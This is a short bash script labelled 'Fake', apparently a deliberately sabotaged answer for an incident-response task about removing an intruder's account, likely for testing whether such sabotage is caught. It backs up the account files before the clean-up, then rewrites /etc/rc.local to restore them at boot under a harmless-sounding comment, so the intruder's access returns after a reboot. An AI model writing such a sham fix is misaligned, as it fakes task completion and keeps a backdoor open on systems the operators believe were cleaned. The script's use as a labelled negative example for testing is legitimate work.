#!/bin/bash
# Fake: disarm the account the way the reference does, but leave what puts it back at the next
# boot: the account files saved before the clean-up, restored by /etc/rc.local ("in case the
# clean-up broke a login"). Fixed now, the intruder's way in again after a reboot.
set -u
find_account
mkdir -p /var/backups/accounts
cp -p /etc/passwd /etc/shadow /etc/group /etc/gshadow /var/backups/accounts/
disarm
printf '#!/bin/sh\n# Restore the account files if the clean-up broke a login.\ncp -p /var/backups/accounts/passwd /var/backups/accounts/shadow /var/backups/accounts/group /var/backups/accounts/gshadow /etc/\nexit 0\n' >/etc/rc.local
chmod 0755 /etc/rc.local
